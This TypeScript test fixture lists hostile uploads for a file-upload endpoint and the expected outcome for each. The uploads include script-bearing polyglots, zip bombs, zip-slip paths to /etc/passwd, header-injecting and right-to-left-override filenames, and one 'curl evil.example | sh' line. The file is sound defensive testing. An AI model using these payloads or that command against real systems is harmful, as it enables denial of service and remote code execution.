import zlib from 'node:zlib';
import { DOCUMENT_MAX_BYTES } from '@inkwell/domain/uploads/upload.rules';
import { CFB_HEADER, MINIMAL_DOCX, MINIMAL_PDF, PLAIN_ZIP, solidImage } from '../fixtures/files.ts';
import { zeroEntry, zipArchive } from './hostile-files.bytes.ts';
import { refused, stored, type HostileFile } from './hostile-files.case.ts';

/**
 * Hostile documents for the private files (POST /api/files: message attachments and order
 * deliveries) and the gig form's `document`: what is allowed is kept as it came and only ever
 * downloaded; everything else is refused.
 */

const SCRIPT = '<html><body><script>alert(document.domain)</script></body></html>';
const PDF = 'application/pdf';
const ZIP = 'application/zip';
const TEXT = 'text/plain';
const NOT_ALLOWED = refused(415, 'DOCUMENT_TYPE_NOT_ALLOWED');

const pdfWith = (tail: string | Buffer) => Buffer.concat([MINIMAL_PDF, Buffer.from(tail)]);
const jpeg = () => solidImage(32, 32).jpeg().toBuffer();
const MB = 1024 * 1024;

/** 40 entries of 256 MB of zeros each: 10 GB once unpacked, about 10 MB sent. */
const zipBomb = () => zipArchive(Array.from({ length: 40 }, (_, i) => zeroEntry(`part-${i}.bin`, 256 * MB)));

/** Zips inside zips, five deep, 256 MB of zeros at the bottom. */
function nestedZips() {
  let inner = zipArchive([zeroEntry('bottom.bin', 256 * MB)]);
  for (let depth = 4; depth >= 1; depth--) inner = zipArchive([{ name: `level-${depth}.zip`, data: inner }]);
  return inner;
}

/**
 * An Office-looking zip whose [Content_Types].xml inflates to 256 MB (file-type reads that entry, at most 1 MB of it).
 */
function contentTypesBomb() {
  return zipArchive([
    zeroEntry('[Content_Types].xml', 256 * MB),
    { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
  ]);
}

const pdfOfSize = (size: number) => Buffer.concat([MINIMAL_PDF, Buffer.alloc(size - MINIMAL_PDF.length, 0x20)]);

export const hostileDocuments: HostileFile[] = [
  // Polyglots: kept as the type their first bytes say, and only ever downloaded.
  {
    name: 'a PDF with an HTML page in it',
    filename: 'brief.pdf',
    type: PDF,
    bytes: () => pdfWith(SCRIPT),
    outcome: stored(PDF),
  },
  {
    name: 'a PDF with a zip appended (PDF+ZIP)',
    filename: 'brief.pdf',
    type: PDF,
    bytes: () => pdfWith(zipArchive([{ name: 'index.html', data: Buffer.from(SCRIPT) }])),
    outcome: stored(PDF),
  },
  {
    name: 'a zip with a JPEG appended (ZIP+JPEG)',
    filename: 'sources.zip',
    type: ZIP,
    bytes: async () => Buffer.concat([PLAIN_ZIP, await jpeg()]),
    outcome: stored(ZIP),
  },
  {
    name: 'a JPEG with a zip appended (JPEG+ZIP), named .zip',
    filename: 'sources.zip',
    type: ZIP,
    bytes: async () => Buffer.concat([await jpeg(), PLAIN_ZIP]),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'a Word 97 container with HTML in it',
    filename: 'essay.doc',
    type: 'application/msword',
    bytes: () => Buffer.concat([CFB_HEADER, Buffer.from(SCRIPT)]),
    outcome: stored('application/msword'),
  },
  {
    name: 'HTML with a PDF header further in, named .pdf',
    filename: 'brief.pdf',
    type: PDF,
    bytes: () => Buffer.from(`${SCRIPT}\n%PDF-1.4\n%%EOF\n`),
    outcome: NOT_ALLOWED,
  },
  // Lying extensions.
  {
    name: 'a Windows program named .pdf',
    filename: 'invoice.pdf',
    type: PDF,
    bytes: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510)]),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'an ELF program named .pdf',
    filename: 'invoice.pdf',
    type: PDF,
    bytes: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'a .docx that is not a zip',
    filename: 'chapter.docx',
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    bytes: () => Buffer.from('This is not a Word file.\n'),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'a .docx that is a plain zip',
    filename: 'chapter.docx',
    type: 'application/octet-stream',
    bytes: () => PLAIN_ZIP,
    outcome: stored(ZIP),
    downloadName: 'chapter.zip',
  },
  {
    name: 'HTML named .xlsx',
    filename: 'marks.xlsx',
    type: 'application/vnd.ms-excel',
    bytes: () => Buffer.from(SCRIPT),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'a PNG named .doc',
    filename: 'essay.doc',
    type: 'application/msword',
    bytes: () => solidImage(8, 8).png().toBuffer(),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'a gzip named .zip',
    filename: 'sources.zip',
    type: ZIP,
    bytes: () => zlib.gzipSync('sources'),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'a PDF declared as text/html',
    filename: 'brief.pdf',
    type: 'text/html',
    bytes: () => MINIMAL_PDF,
    outcome: stored(PDF),
  },
  {
    name: 'HTML declared as application/pdf',
    filename: 'brief.pdf',
    type: PDF,
    bytes: () => Buffer.from(`<!doctype html>${SCRIPT}`),
    outcome: NOT_ALLOWED,
  },
  // Text: stays text, downloaded as text, whatever markup it holds.
  {
    name: 'HTML named .txt',
    filename: 'notes.txt',
    type: 'text/html',
    bytes: () => Buffer.from(SCRIPT),
    outcome: stored(TEXT),
  },
  {
    name: 'an SVG with a script named .txt',
    filename: 'notes.txt',
    type: 'image/svg+xml',
    bytes: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    outcome: stored(TEXT),
  },
  {
    name: 'a shell script named .txt',
    filename: 'install.txt',
    type: TEXT,
    bytes: () => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
    outcome: stored(TEXT),
  },
  {
    name: 'text with NUL bytes',
    filename: 'notes.txt',
    type: TEXT,
    bytes: () => Buffer.from('first\u0000second\n'),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'UTF-16 text with a byte order mark',
    filename: 'notes.txt',
    type: TEXT,
    bytes: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('notes\n', 'utf16le')]),
    outcome: NOT_ALLOWED,
  },
  // SVG, HTML and XHTML are not documents.
  {
    name: 'an SVG',
    filename: 'logo.svg',
    type: 'image/svg+xml',
    bytes: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'an HTML page',
    filename: 'index.html',
    type: 'text/html',
    bytes: () => Buffer.from(`<!DOCTYPE html>${SCRIPT}`),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'an XHTML page',
    filename: 'index.xhtml',
    type: 'application/xhtml+xml',
    bytes: () =>
      Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'an HTML page with a UTF-8 byte order mark',
    filename: 'index.htm',
    type: 'text/html',
    bytes: () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(SCRIPT)]),
    outcome: NOT_ALLOWED,
  },
  // Bombs: a zip is never unpacked; its type is told from its first entries only.
  {
    name: 'a zip bomb (10 GB unpacked)',
    filename: 'sources.zip',
    type: ZIP,
    bytes: zipBomb,
    outcome: stored(ZIP),
    bomb: true,
  },
  {
    name: 'zips nested five deep over 256 MB of zeros',
    filename: 'nested.zip',
    type: ZIP,
    bytes: nestedZips,
    outcome: stored(ZIP),
    bomb: true,
  },
  {
    name: 'a .docx whose [Content_Types].xml inflates to 256 MB',
    filename: 'chapter.docx',
    type: 'application/octet-stream',
    bytes: contentTypesBomb,
    outcome: stored(ZIP),
    bomb: true,
    downloadName: 'chapter.zip',
  },
  {
    name: 'a zip of 5000 empty entries',
    filename: 'many.zip',
    type: ZIP,
    bytes: () => zipArchive(Array.from({ length: 5000 }, (_, i) => ({ name: `f${i}.txt`, data: Buffer.alloc(0) }))),
    outcome: stored(ZIP),
    bomb: true,
  },
  {
    name: 'a zip whose entries escape the folder (../, absolute, drive)',
    filename: 'slip.zip',
    type: ZIP,
    bytes: () =>
      zipArchive(
        ['../../etc/passwd', '/etc/shadow', 'C:\\Windows\\evil.bat'].map((name) => ({ name, data: Buffer.from('x') })),
      ),
    outcome: stored(ZIP),
  },
  // Truncated.
  {
    name: 'a PDF cut to its first 5 bytes (a PDF to the sniffer, downloaded as one)',
    filename: 'brief.pdf',
    type: PDF,
    bytes: () => MINIMAL_PDF.subarray(0, 5),
    outcome: stored(PDF),
  },
  {
    name: 'a PDF cut to its first 3 bytes',
    filename: 'brief.pdf',
    type: PDF,
    bytes: () => MINIMAL_PDF.subarray(0, 3),
    outcome: NOT_ALLOWED,
  },
  {
    name: 'a DOCX cut in half',
    filename: 'chapter.docx',
    type: 'application/octet-stream',
    bytes: () => MINIMAL_DOCX.subarray(0, Math.floor(MINIMAL_DOCX.length / 2)),
    outcome: stored(ZIP),
    downloadName: 'chapter.zip',
  },
  // Names: cleaned for the download, never used to store the file.
  {
    name: 'a path traversal name',
    filename: '../../../etc/passwd',
    type: PDF,
    bytes: () => MINIMAL_PDF,
    outcome: stored(PDF),
    downloadName: 'passwd.pdf',
  },
  {
    name: 'a name with a NUL byte',
    filename: 'evil\u0000.html',
    type: PDF,
    bytes: () => MINIMAL_PDF,
    outcome: stored(PDF),
    downloadName: 'evil.pdf',
  },
  {
    name: 'a name that tries to close the header',
    filename: 'report"; filename=evil.html',
    type: PDF,
    bytes: () => MINIMAL_PDF,
    outcome: stored(PDF),
    downloadName: 'report.pdf',
  },
  {
    name: 'a name with an escaped quote and a semicolon',
    filename: 'a\\"b; c=d.html',
    type: PDF,
    bytes: () => MINIMAL_PDF,
    outcome: stored(PDF),
    downloadName: 'a"b; c=d.pdf',
  },
  {
    name: 'a name with a right-to-left override',
    filename: 'invoice\u202Efdp.exe',
    type: PDF,
    bytes: () => MINIMAL_PDF,
    outcome: stored(PDF),
    downloadName: 'invoicefdp.pdf',
  },
  // Sizes.
  {
    name: 'an empty file',
    filename: 'empty.pdf',
    type: PDF,
    bytes: () => Buffer.alloc(0),
    outcome: refused(400, 'FILE_MISSING'),
  },
  {
    name: 'a PDF of exactly 20 MB',
    filename: 'largest.pdf',
    type: PDF,
    bytes: () => pdfOfSize(DOCUMENT_MAX_BYTES),
    outcome: stored(PDF),
  },
  {
    name: 'a PDF of 20 MB and one byte',
    filename: 'too-big.pdf',
    type: PDF,
    bytes: () => pdfOfSize(DOCUMENT_MAX_BYTES + 1),
    outcome: refused(413, 'FILE_TOO_LARGE'),
  },
];
